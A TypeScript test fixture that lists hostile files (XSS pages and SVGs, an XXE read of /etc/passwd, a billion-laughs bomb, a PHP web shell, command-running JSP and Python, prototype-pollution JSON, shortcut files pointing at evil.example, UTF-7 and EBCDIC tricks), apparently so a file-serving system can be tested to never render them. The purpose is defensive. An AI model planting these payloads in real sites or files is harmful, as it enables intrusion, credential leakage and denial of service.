// What a browser, a desktop or a server would run if it were given to them as what it is: pages, drawings, scripts.
import { hex, hostile, type HostileFile, join, onlyWords, raw, utf8 } from "./bytes.ts";

const evil = "window.__pwned=1;alert(1)";
const script = `<script>${evil}</script>`;
const pixel = `<img src="https://evil.example/pixel.gif">`;

const pages: readonly (readonly [what: string, name: string, type: string, words: string | Uint8Array])[] = [
  [
    "a page",
    "a.html",
    "text/html",
    `<!DOCTYPE html><html><head><title>x</title></head><body>${script}${pixel}</body></html>`,
  ],
  ["a page in capitals", "A.HTM", "TEXT/HTML", `<HTML><BODY ONLOAD="${evil}">${pixel}</BODY></HTML>`],
  ["a page that begins with blanks", "a.html", "text/html", `${" \n\t".repeat(400)}<html>${script}`],
  ["a page that begins with a comment", "a.html", "text/html", `<!-- ${"x".repeat(2_000)} -->${script}`],
  ["a page after a mark of byte order", "a.html", "text/html", join(hex("efbbbf"), `<html>${script}`)],
  [
    "a page after long valid words",
    "a.txt",
    "text/plain",
    `${"These are words.\n".repeat(400)}<html><body>${script}</body></html>`,
  ],
  ["a bare script element", "a.txt", "text/plain", script],
  ["a bare picture with a handler", "a.txt", "text/plain", `<img src=x onerror="${evil}">`],
  [
    "a frame in a frame",
    "a.html",
    "text/html",
    `<iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe>`,
  ],
  [
    "a page that goes elsewhere",
    "a.html",
    "text/html",
    `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  ],
  [
    "a page with a base",
    "a.html",
    "text/html",
    `<html><base href="https://evil.example/"><script src="x.js"></script></html>`,
  ],
  [
    "a page of XHTML",
    "a.xhtml",
    "application/xhtml+xml",
    `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><script>${evil}</script></head><body/></html>`,
  ],
  [
    "an SVG with a script",
    "a.svg",
    "image/svg+xml",
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>${evil}</script></svg>`,
  ],
  ["an SVG with a handler", "a.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" onload="${evil}"/>`],
  ["an SVG as a PNG", "a.png", "image/png", `<svg xmlns="http://www.w3.org/2000/svg" onload="${evil}"/>`],
  [
    "an SVG with a page in it",
    "a.svg",
    "image/svg+xml",
    `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${evil}"/></foreignObject></svg>`,
  ],
  [
    "an SVG that calls another host",
    "a.svg",
    "image/svg+xml",
    `<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/p.gif"/></svg>`,
  ],
  [
    "an SVG with an entity of this machine",
    "a.svg",
    "image/svg+xml",
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
  ],
  [
    "an SVG in UTF-16",
    "a.svg",
    "image/svg+xml",
    join(hex("fffe"), Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${evil}"/>`, "utf16le")),
  ],
  [
    "XML with a style sheet that runs",
    "a.xml",
    "text/xml",
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><x><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script>${evil}</script></xsl:template></xsl:stylesheet></x>`,
  ],
  [
    "a billion laughs",
    "a.xml",
    "application/xml",
    `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, n) => `<!ENTITY ${"bcdefghij"[n]} "${`&${"abcdefghi"[n]};`.repeat(10)}">`).join("")}]><l>&j;</l>`,
  ],
  [
    "a page with its pictures in one (MHTML)",
    "a.mhtml",
    "multipart/related",
    `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: x\r\n\r\n<html>${script}</html>\r\n--b--\r\n`,
  ],
  [
    "a page with its pictures in one, as words",
    "a.txt",
    "text/plain",
    `From: <Saved by Blink>\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<html>${script}</html>`,
  ],
  [
    "an application of HTML",
    "a.hta",
    "application/hta",
    `<html><hta:application id="x"/><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></html>`,
  ],
  ["a script", "a.js", "text/javascript", `${evil};`],
  ["a module", "a.mjs", "application/javascript", `export default ${JSON.stringify(evil)};`],
  ["a script as a picture", "a.png", "image/png", `${evil};`],
  [
    "a worker",
    "sw.js",
    "text/javascript",
    `self.addEventListener("fetch", (e) => e.respondWith(new Response("pwned")));`,
  ],
  ["a style sheet", "a.css", "text/css", `@import url(https://evil.example/x.css); body{display:none}`],
  ["PHP", "a.php", "application/x-httpd-php", `<?php system($_GET["c"]); ?>`],
  ["PHP under two endings", "a.php.txt", "text/plain", `<?php phpinfo();`],
  ["a page of a server (ASP)", "a.aspx", "text/plain", `<%@ Page Language="C#" %><% Response.Write(1); %>`],
  ["a page of a server (JSP)", "a.jsp", "text/plain", `<% Runtime.getRuntime().exec("id"); %>`],
  ["rules of a web server", ".htaccess", "text/plain", `AddType application/x-httpd-php .txt\n`],
  ["a script of a shell", "a.sh", "application/x-sh", `#!/bin/sh\ntouch /tmp/pwned\n`],
  ["a script of Python", "a.py", "text/x-python", `#!/usr/bin/env python3\nimport os\nos.system("id")\n`],
  ["a batch file", "a.bat", "application/x-bat", `@echo off\r\ncalc.exe\r\n`],
  ["a command of Windows", "a.cmd", "text/plain", `@start calc\r\n`],
  ["a script of PowerShell", "a.ps1", "text/plain", `Start-Process calc`],
  ["a script of Visual Basic", "a.vbs", "text/vbscript", `CreateObject("WScript.Shell").Run "calc"`],
  ["an encoded script of Windows", "a.jse", "text/plain", `#@~^AAAAAA==^#~@`],
  [
    "an entry for the registry",
    "a.reg",
    "text/plain",
    `Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\X]\r\n`,
  ],
  [
    "an address to be opened",
    "a.url",
    "application/internet-shortcut",
    `[InternetShortcut]\r\nURL=file://evil.example/share/x.exe\r\n`,
  ],
  [
    "an address to be opened on Linux",
    "a.desktop",
    "application/x-desktop",
    `[Desktop Entry]\nType=Application\nExec=sh -c id\nName=x\n`,
  ],
  [
    "an address to be opened on macOS",
    "a.webloc",
    "text/xml",
    `<?xml version="1.0"?><plist><dict><key>URL</key><string>https://evil.example</string></dict></plist>`,
  ],
  ["a connection to a far desktop", "a.rdp", "text/plain", `full address:s:evil.example\r\n`],
  ["what Explorer looks for", "a.scf", "text/plain", `[Shell]\r\nIconFile=\\\\evil.example\\x.ico\r\n`],
  [
    "a job for Java",
    "a.jnlp",
    "application/x-java-jnlp-file",
    `<?xml version="1.0"?><jnlp codebase="https://evil.example"><application-desc main-class="A"/></jnlp>`,
  ],
  [
    "a calendar with a page in it",
    "a.ics",
    "text/calendar",
    `BEGIN:VCALENDAR\r\nDESCRIPTION:${script}\r\nEND:VCALENDAR\r\n`,
  ],
  ["a card with a page in it", "a.vcf", "text/vcard", `BEGIN:VCARD\r\nNOTE:${script}\r\nEND:VCARD\r\n`],
  ["a list of addresses", "a.m3u8", "application/x-mpegurl", `#EXTM3U\nhttps://evil.example/a.ts\n`],
  [
    "a policy of Flash",
    "crossdomain.xml",
    "text/x-cross-domain-policy",
    `<cross-domain-policy><allow-access-from domain="*"/></cross-domain-policy>`,
  ],
  ["a manifest of an application", "a.appcache", "text/cache-manifest", `CACHE MANIFEST\nFALLBACK:\n/ /x\n`],
  ["a shared object of JSON", "a.json", "application/json", `{"__proto__":{"isAdmin":true},"x":"</script>"}`],
  ["a letter with a page in it", "a.eml", "message/rfc822", `From: a@b\r\nContent-Type: text/html\r\n\r\n${script}`],
];

const charsets: readonly HostileFile[] = [
  hostile(
    "a page in UTF-7",
    ["a.txt", "text/plain; charset=utf-7"],
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    onlyWords,
  ),
  hostile(
    "a page in UTF-7 after its mark",
    ["a.html", "text/html"],
    "+/v8-+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    onlyWords,
  ),
  hostile(
    "a page in UTF-16, big end first",
    ["a.html", "text/html"],
    () => join(hex("feff"), Buffer.from(`<html>${script}`, "utf16le").swap16()),
    onlyWords,
  ),
  hostile(
    "a page in UTF-16 without a mark",
    ["a.html", "text/html"],
    () => Buffer.from(`<html>${script}`, "utf16le"),
    onlyWords,
  ),
  hostile(
    "a page in UTF-32",
    ["a.html", "text/html"],
    () => join(hex("fffe0000"), ...[...`<html>${script}`].map((sign) => join(raw(sign), hex("000000")))),
    onlyWords,
  ),
  hostile(
    "a page for ISO-2022-JP",
    ["a.html", "text/html; charset=iso-2022-jp"],
    join(hex("1b2842"), utf8(`<html>`), hex("1b2442"), utf8(script)),
    onlyWords,
  ),
  hostile(
    "a page in EBCDIC",
    ["a.html", "text/html; charset=cp037"],
    hex("4ca28399899783 6e8193859983 4dd5f15d4c61a2 6e"),
    onlyWords,
  ),
  hostile("two marks of byte order", ["a.txt", "text/plain"], join(hex("efbbbf fffe"), `<html>${script}`), onlyWords),
];

/** None of them may ever be shown by a browser as what it is. */
export const active: readonly HostileFile[] = [
  ...pages.map(([what, name, type, words]) => hostile(what, [name, type], words, onlyWords)),
  ...charsets,
];
